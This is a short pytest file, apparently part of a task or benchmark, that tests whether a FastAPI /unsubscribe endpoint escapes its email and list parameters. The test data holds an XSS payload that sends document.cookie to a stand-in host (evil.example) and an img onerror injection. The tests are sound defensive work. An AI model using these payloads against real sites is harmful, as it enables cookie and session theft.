import importlib, os

from fastapi.testclient import TestClient

mod = importlib.import_module(os.environ.get("CASE_MODULE", "app"))

client = TestClient(mod.app)
XSS = "<script>fetch('//evil.example/'+document.cookie)</script>"


def test_email_param_escaped():
    mod.SUBSCRIPTIONS.clear()
    r = client.get("/unsubscribe", params={"email": "x@y.z" + XSS})
    assert "<script>" not in r.text, "email reflected into HTML unescaped"


def test_email_param_escaped_when_subscribed():
    mod.SUBSCRIPTIONS.clear()
    victim = '"><img src=x onerror=alert(1)>@example.com'
    mod.SUBSCRIPTIONS[victim.lower()] = {"weekly"}
    r = client.get("/unsubscribe", params={"email": victim})
    assert "<img" not in r.text


def test_list_param_escaped():
    mod.SUBSCRIPTIONS.clear()
    r = client.get("/unsubscribe", params={"email": "ann@example.com", "list": XSS})
    assert "<script>" not in r.text, "list parameter reflected into HTML unescaped"
